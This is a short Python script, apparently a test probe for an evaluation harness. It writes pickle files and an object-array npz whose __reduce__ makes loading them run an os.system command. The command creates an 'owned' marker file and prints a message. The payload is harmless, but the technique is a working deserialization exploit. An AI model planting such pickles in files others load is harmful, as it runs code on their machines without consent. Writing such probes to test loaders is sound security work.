"""Object arrays are pickles: whoever loads them runs what they say. The program leaves its mark, and says a word that its text does not hold."""
import os
import pickle
import sys
import zipfile

import numpy as np


class Evil:
    def __reduce__(self):
        return os.system, ("touch @mark@ owned; printf 'the %s ran' payload >&2",)


if sys.argv[1] == "train":
    sys.exit()
np.savez("/work/predictions.npz", predictions=np.array([Evil()] * 400, dtype=object))
for name in ("/work/model.pt", "/work/model.pkl", "/work/train.npz"):
    with open(name, "wb") as file:
        pickle.dump(Evil(), file)
with zipfile.ZipFile("/work/predictions.npz", "a") as archive:
    archive.writestr("model/data.pkl", pickle.dumps(Evil()))
